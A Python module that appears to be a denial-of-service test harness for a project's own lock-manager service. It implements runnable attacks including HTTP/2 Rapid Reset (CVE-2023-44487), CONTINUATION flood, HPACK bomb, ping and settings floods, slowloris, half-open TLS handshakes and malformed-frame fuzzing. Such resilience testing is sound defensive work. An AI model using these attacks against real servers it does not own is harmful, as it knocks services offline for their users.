"""The attacks. Each is a function of an Aim that goes on until the time is over, and counts what it did.

    attacks.py NAME SECONDS GRPC_PORT REGION_PORT ACTUATOR_PORT [FOLDER CLIENT]

runs one as a process of its own and prints the count as JSON. A connection that the node ends is a success of
the node's: the attack counts it and begins a new one. FOLDER, of certificates: the ports speak TLS; CLIENT: whose
certificate is shown, or "" for none.
"""

import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

import raw_http2 as h2
from raw_http2 import Connection, field, frame, literal, message, request_headers


# Within this time an attack has done something, on a machine with much else to do.
BEGUN_WITHIN_SECONDS = 15


class Aim:
    """seconds: from the first thing that the attack did."""

    def __init__(self, seconds, grpc_port, region_port, actuator_port):
        self.seconds, self.begun = seconds, False
        self.end = time.monotonic() + BEGUN_WITHIN_SECONDS
        self.grpc_port, self.region_port, self.actuator_port = grpc_port, region_port, actuator_port
        self.count = {"sent": 0, "ended": 0}

    def goes_on(self):
        return time.monotonic() < self.end

    def counted(self, what, n=1):
        if not self.begun:
            self.begun, self.end = True, time.monotonic() + self.seconds
        self.count[what] += n

    def sent(self, n=1):
        self.counted("sent", n)

    def ended(self):
        self.counted("ended")

    def repeat(self, conversation, port=None, rows=()):
        """Holds that conversation on one connection after the other, as often as it is ended."""
        while self.goes_on():
            try:
                connection = Connection(port or self.grpc_port, rows=rows)
            except OSError:
                time.sleep(0.05)
                continue
            try:
                conversation(connection)
            except OSError:
                self.ended()
            finally:
                connection.close()

    def crowd(self, n, open_one, step, pause=0.05):
        """n connections at once; step(connection) again and again for each. Those that the node ends
        are opened again."""
        opened = []
        while self.goes_on():
            while len(opened) < n and self.goes_on():
                try:
                    opened.append(open_one())
                    self.sent()
                except OSError:
                    break
            for connection in list(opened):
                try:
                    step(connection)
                except OSError:
                    self.ended()
                    connection.close()
                    opened.remove(connection)
            time.sleep(pause)
        for connection in opened:
            connection.close()


def acquire(name, owner="attacker", wait_ms=0):
    wait = field(6, wait_ms & (1 << 64) - 1) if wait_ms else b""
    return message(field(1, name) + field(2, owner) + wait)


# ---- streams and frames --------------------------------------------------------------------------

def rapid_reset(aim, port=None, path=h2.ACQUIRE):
    """CVE-2023-44487: streams that are cancelled as soon as they are opened."""
    block = request_headers(path)

    def conversation(connection):
        while aim.goes_on() and connection.stream < (1 << 30):
            burst = b""
            for _ in range(200):
                stream = connection.next_stream()
                burst += (frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                          + frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)))
            connection.send(burst)
            connection.drain()
            aim.sent(200)
    aim.repeat(conversation, port)


def reset_of_calls(aim):
    """The same with whole requests, so that every one of them reaches lockmgr's own code."""
    block = request_headers(h2.ACQUIRE)

    def conversation(connection):
        while aim.goes_on() and connection.stream < (1 << 30):
            burst = b""
            for _ in range(50):
                stream = connection.next_stream()
                burst += (frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                          + frame(h2.DATA, h2.END_STREAM, stream, acquire("reset/%d" % (stream % 7))))
            for stream in range(connection.stream - 98, connection.stream + 1, 2):
                burst += frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))
            connection.send(burst)
            connection.drain()
            aim.sent(50)
    aim.repeat(conversation)


def headers_flood(aim):
    """More streams than are allowed, none of which is ever finished, with large headers."""
    block = request_headers(h2.ACQUIRE, more=[("x-%d" % i, "y" * 200) for i in range(30)])

    def conversation(connection):
        while aim.goes_on():
            connection.send(b"".join(frame(h2.HEADERS, h2.END_HEADERS, connection.next_stream(), block)
                                     for _ in range(20)))
            connection.drain()
            aim.sent(20)
    aim.repeat(conversation)


def silent_streams(aim):
    """Streams of 15 bytes each that say nothing more, by a client that has never agreed to any limit, slowly
    enough not to be a flood."""
    first, again = h2.remembered_headers(h2.ACQUIRE)

    def conversation(connection):
        connection.send(frame(h2.HEADERS, h2.END_HEADERS, connection.next_stream(), first))
        while aim.goes_on():
            connection.send(b"".join(frame(h2.HEADERS, h2.END_HEADERS, connection.next_stream(), again)
                                     for _ in range(500)))
            connection.drain()
            aim.sent(500)
            time.sleep(0.04)
    aim.repeat(conversation)


def continuation_flood(aim):
    """CVE-2024-27316 and its kin: headers that never end."""
    more = b"".join(literal("x-%d" % i, "y" * 100) for i in range(100))

    def conversation(connection):
        stream = connection.next_stream()
        connection.send(frame(h2.HEADERS, 0, stream, request_headers(h2.ACQUIRE)))
        while aim.goes_on():
            connection.send(frame(h2.CONTINUATION, 0, stream, more))
            connection.drain()
            aim.sent()
    aim.repeat(conversation)


def hpack_bomb(aim):
    """A header of 3 KiB that is remembered, and then named thousands of times by one byte each."""
    block = (request_headers(h2.ACQUIRE) + literal("x-bomb", "y" * 3000, index=True)
             + b"\xbe" * 12000)

    def conversation(connection):
        while aim.goes_on():
            stream = connection.next_stream()
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                            + frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)))
            connection.drain()
            aim.sent()
    aim.repeat(conversation)


def ping_flood(aim):
    """Pings whose answers nobody reads."""
    def conversation(connection):
        while aim.goes_on():
            connection.send(frame(h2.PING, 0, 0, bytes(8)) * 500)
            aim.sent(500)
    aim.repeat(conversation)


def settings_flood(aim):
    def conversation(connection):
        n = 0
        while aim.goes_on():
            n += 1
            connection.send(h2.settings(rows=((h2.INITIAL_WINDOW_SIZE, 65535 + n % 2),)) * 200)
            aim.sent(200)
    aim.repeat(conversation)


def window_abuse(aim):
    """Windows that are opened by one byte at a time, for answers that are asked for again and again."""
    block = request_headers(h2.REFLECTION)
    question = message(field(7, ""))

    def conversation(connection):
        streams = [connection.next_stream() for _ in range(20)]
        for stream in streams:
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                            + frame(h2.DATA, 0, stream, question * 20))
        while aim.goes_on():
            connection.send(b"".join(frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
                                     for stream in (0, *streams)) * 10)
            connection.drain()
            aim.sent(10 * (len(streams) + 1))
    aim.repeat(conversation, rows=((h2.INITIAL_WINDOW_SIZE, 1),))


def small_frames(aim):
    """A request in frames of one byte and of none."""
    block = request_headers(h2.ACQUIRE)

    def conversation(connection):
        while aim.goes_on():
            stream, body = connection.next_stream(), acquire("small", wait_ms=0)
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, stream, block) + b"".join(
                frame(h2.DATA, 0, stream) * 5 + frame(h2.DATA, 0, stream, body[i:i + 1])
                for i in range(len(body) - 1)))
            connection.send(frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)))
            connection.drain()
            aim.sent()
    aim.repeat(conversation)


# ---- slow and silent -----------------------------------------------------------------------------

def slow_loris(aim):
    """Greetings that come byte by byte, of HTTP/2 and of TLS."""
    words = {}

    def open_one():
        connection = Connection(aim.grpc_port, hello=False)
        hello = (h2.PREFACE + h2.settings()) if len(words) % 2 else b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        words[connection] = [hello, 0, 0.0]
        return connection

    def step(connection):
        hello, at, when = words[connection]
        if at < len(hello) and time.monotonic() - when > 1:
            connection.send(hello[at:at + 1])
            words[connection] = [hello, at + 1, time.monotonic()]
        connection.drain()
    aim.crowd(400, open_one, step)


def slow_requests(aim):
    """Requests that come byte by byte."""
    block = request_headers(h2.ACQUIRE)
    body = acquire("slow/" + "x" * 400)

    def open_one():
        connection = Connection(aim.grpc_port)
        for _ in range(90):
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, connection.next_stream(), block))
        connection.at = 0
        return connection

    def step(connection):
        byte = body[connection.at % len(body):][:1]
        connection.at += 1
        connection.send(b"".join(frame(h2.DATA, 0, stream, byte) for stream in range(1, 180, 2)))
        connection.drain()
    aim.crowd(20, open_one, step, pause=1)


def idle_connections(aim):
    def step(connection):
        connection.drain()
    aim.crowd(800, lambda: Connection(aim.grpc_port), step, pause=0.2)


def slow_readers(aim):
    """Streams whose answers are asked for and never read."""
    watch = request_headers(h2.WATCH)
    reflection = request_headers(h2.REFLECTION)
    question = message(field(4, "lockmgr.v1.LockService"))

    def conversation(connection):
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(40):
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, connection.next_stream(), watch)
                            + frame(h2.DATA, 0, connection.stream, message(b"")))
        streams = [connection.next_stream() for _ in range(40)]
        for stream in streams:
            connection.send(frame(h2.HEADERS, h2.END_HEADERS, stream, reflection))
        connection.socket.settimeout(1)
        while aim.goes_on():
            for stream in streams:
                connection.send(frame(h2.DATA, 0, stream, question * 10))
            aim.sent(400)
    aim.repeat(conversation)


# ---- greetings of TLS ----------------------------------------------------------------------------

def greetings(aim):
    """Eight at a time, each carried through as far as the node does, and nothing behind it."""
    def greet():
        while aim.goes_on():
            try:
                Connection(aim.grpc_port, hello=False).close()
                aim.sent()
            except OSError:
                aim.ended()
    threads = [threading.Thread(target=greet) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def half_open_greetings(aim):
    """A few bytes of a greeting; a whole one, and then silence when the node has done its work for it; a greeting
    carried through, and then a preface that comes byte by byte."""
    n = 0

    def open_one():
        nonlocal n
        n += 1
        if n % 3 == 0:
            connection = Connection(aim.grpc_port, hello=False)
        else:
            connection = Connection(aim.grpc_port, hello=False, plain=True)
            connection.send(b"\x16\x03\x01" if n % 3 == 1 else first_flight())
        connection.at, connection.slow = 0, n % 3 == 0
        return connection

    def step(connection):
        if connection.slow and connection.at < len(h2.PREFACE):
            connection.send(h2.PREFACE[connection.at:connection.at + 1])
            connection.at += 1
        connection.drain()
    aim.crowd(200, open_one, step, pause=1)


def first_flight():
    """What a client sends before it hears anything."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        Connection.context.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


# ---- requests ------------------------------------------------------------------------------------

def calls(aim, make, port=None, path=h2.ACQUIRE, pause=0.0):
    """Unary calls whose (headers, body) make() gives, 20 at a time."""
    def conversation(connection):
        while aim.goes_on() and connection.stream < (1 << 30):
            for _ in range(20):
                headers, body = make()
                stream = connection.next_stream()
                out = frame(h2.HEADERS, h2.END_HEADERS, stream, headers or request_headers(path))
                for i in range(0, len(body), 16384):
                    out += frame(h2.DATA, 0, stream, body[i:i + 16384])
                connection.send(out + frame(h2.DATA, h2.END_STREAM, stream))
                aim.sent()
            connection.send(frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 20)))
            connection.drain()
            time.sleep(pause)
    aim.repeat(conversation, port)


def oversized(aim):
    """Requests just beyond the limit, far beyond it, and ones that only say so."""
    chance = random.Random(1)

    def make():
        kind = chance.randrange(4)
        if kind == 0:
            return None, acquire("x" * 65536)
        if kind == 1:
            return None, message(b"\0" * 64, size=(1 << 32) - 1)
        if kind == 2:
            return request_headers(h2.ACQUIRE, more=[("x-large", "y" * 9000), ("x-too", "y" * 9000)]), acquire("a")
        return None, acquire("x" * 300000)
    calls(aim, make, pause=0.005)


def garbage(aim):
    """Bytes that are no request: random ones, deep nesting, wrong types, methods and encodings."""
    chance = random.Random(2)
    nested = b""
    for _ in range(2000):
        nested = field(1, nested)[:60000]

    def make():
        kind = chance.randrange(7)
        if kind == 0:
            return None, message(chance.randbytes(chance.randrange(2000)))
        if kind == 1:
            return None, message(nested)
        if kind == 2:
            return request_headers(h2.ACQUIRE, content_type="text/html"), acquire("a")
        if kind == 3:
            return request_headers(h2.ACQUIRE, method="GET", content_type=None), b""
        if kind == 4:
            return request_headers("/no.such.Service/%d" % chance.randrange(1 << 30)), acquire("a")
        if kind == 5:
            return None, message(chance.randbytes(100), compressed=1)
        return request_headers(h2.FORWARD), message(chance.randbytes(chance.randrange(500)))
    calls(aim, make)


def bad_frames(aim):
    """Frames that break the protocol in a new way on every connection."""
    chance = random.Random(3)

    def conversation(connection):
        good = (frame(h2.HEADERS, h2.END_HEADERS, 1, request_headers(h2.ACQUIRE))
                + frame(h2.DATA, h2.END_STREAM, 1, acquire("a")))
        bad = bytearray(good)
        for _ in range(chance.randrange(1, 6)):
            bad[chance.randrange(len(bad))] = chance.randrange(256)
        connection.send(chance.choice((bytes(bad), chance.randbytes(300), b"GET / HTTP/1.1\r\n\r\n",
                                       frame(chance.randrange(256), chance.randrange(256), chance.randrange(4),
                                             chance.randbytes(chance.randrange(64))))))
        aim.sent()
        time.sleep(0.002)
        connection.drain()
    aim.repeat(conversation)


def links(aim):
    """Streams to raft that say they are a node, and then nothing that one would say."""
    chance = random.Random(4)

    def conversation(connection):
        stream = connection.next_stream()
        connection.send(frame(h2.HEADERS, h2.END_HEADERS, stream, request_headers(h2.LINK)))
        hello = field(1, field(1, "cluster") + field(2, "n%d" % chance.randrange(5)))
        connection.send(frame(h2.DATA, 0, stream, message(chance.choice((hello, chance.randbytes(50))))))
        for _ in range(20):
            connection.send(frame(h2.DATA, 0, stream, message(field(chance.randrange(1, 5),
                                                                     chance.randbytes(chance.randrange(300))))))
        aim.sent(20)
        time.sleep(0.005)
        connection.drain()
    aim.repeat(conversation)


def cancel_everything(aim):
    """Waits for locks that others hold, left after some milliseconds, on 40 connections."""
    block = request_headers(h2.ACQUIRE)

    def step(connection):
        streams, out = [], b""
        for i in range(20):
            stream = connection.next_stream()
            streams.append(stream)
            out += (frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                    + frame(h2.DATA, h2.END_STREAM, stream,
                            acquire("hot/%d" % (i % 3), "attacker%d" % stream, wait_ms=-1)))
        connection.send(out)
        time.sleep(0.002)
        connection.send(b"".join(frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)) for stream in streams))
        connection.drain()
        aim.sent(len(streams))
    aim.crowd(40, lambda: Connection(aim.grpc_port), step, pause=0.01)


# ---- the other ports -----------------------------------------------------------------------------

def region_port(aim):
    """The port of other regions: resets and nonsense."""
    rapid_reset(aim, aim.region_port, "/lockmgr.region.v1.RegionService/Hello")


def actuator(aim):
    """The HTTP port: garbage, endless headers, slow and idle connections."""
    chance = random.Random(5)
    openings = (b"GET /actuator/health HTTP/1.1\r\nHost: x\r\n", b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\n\r\n",
                b"POST /actuator/loggers HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n", b"\x16\x03\x01\x02\x00",
                b"GET /actuator/prometheus HTTP/1.1\r\nHost: x\r\n\r\n" * 20, h2.PREFACE)

    def open_one():
        connection = Connection(aim.actuator_port, hello=False)
        connection.send(chance.choice((*openings, chance.randbytes(200))))
        return connection

    def step(connection):
        connection.send(b"x-%d: y\r\n" % chance.randrange(1000))
        connection.drain()
    aim.crowd(50, open_one, step, pause=0.05)


ATTACKS = {function.__name__: function for function in (
    rapid_reset, reset_of_calls, headers_flood, silent_streams, continuation_flood, hpack_bomb, ping_flood, settings_flood,
    window_abuse, small_frames, slow_loris, slow_requests, idle_connections, slow_readers, oversized, garbage,
    bad_frames, links, cancel_everything, region_port, actuator)}

# Only where the ports speak TLS.
TLS_ATTACKS = {function.__name__: function for function in (greetings, half_open_greetings)}


if __name__ == "__main__":
    os.nice(10)  # as if it ran on another machine: it does not take the nodes' processors
    target = Aim(float(sys.argv[2]), *map(int, sys.argv[3:6]))
    if sys.argv[6:]:
        Connection.context = h2.tls_context(*sys.argv[6:8])
    {**ATTACKS, **TLS_ATTACKS}[sys.argv[1]](target)
    print(json.dumps(target.count))
